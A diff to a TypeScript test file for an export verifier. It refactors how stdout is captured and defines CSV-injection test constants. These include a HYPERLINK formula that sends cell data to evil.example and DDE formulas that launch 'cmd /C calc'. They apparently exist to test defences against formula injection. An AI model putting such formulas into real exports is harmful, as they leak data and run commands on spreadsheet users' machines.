@@ -9,25 +9,22 @@ import { runVerifyExport, trustedKeyFingerprint } from '../src/cli/verify-export
 import { signedManifestBytes } from '../src/exports/bundle-format.js';
 import { verifyBundle } from '../src/exports/bundle.verifier.js';
 import { type RunningDetector, startDetector } from './support/detector.harness.js';
+import { printed } from './support/quietly.js';
 import { POISONED_ADD, TelemetryBuilder } from './support/telemetry.builder.js';
 
 type Record = { id: string; path?: string; files: { path: string }[] };
 
-// Names a monitored server chooses, written as spreadsheet formulas (OWASP "CSV injection").
 /** Runs verify-export on each path in turn, keeping what it prints on stdout: the exit codes and the lines. */
 async function verifyPrinting(...paths: string[]): Promise<{ codes: number[]; out: string[] }> {
-  const out: string[] = [];
-  const codes: number[] = [];
-  const write = process.stdout.write.bind(process.stdout);
-  process.stdout.write = ((chunk: string) => out.push(String(chunk)) > 0) as typeof process.stdout.write;
-  try {
+  const { value: codes, out } = await printed(async () => {
+    const codes: number[] = [];
     for (const target of paths) codes.push(await runVerifyExport(target));
-  } finally {
-    process.stdout.write = write;
-  }
+    return codes;
+  });
   return { codes, out };
 }
 
+// Names a monitored server chooses, written as spreadsheet formulas (OWASP "CSV injection").
 const FORMULA_TOOL = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")';
 const FORMULA_SESSION = "=cmd|' /C calc'!A0";
 const FORMULA_CLIENT = '@SUM(1+1)*cmd|\' /C calc\'!A0';
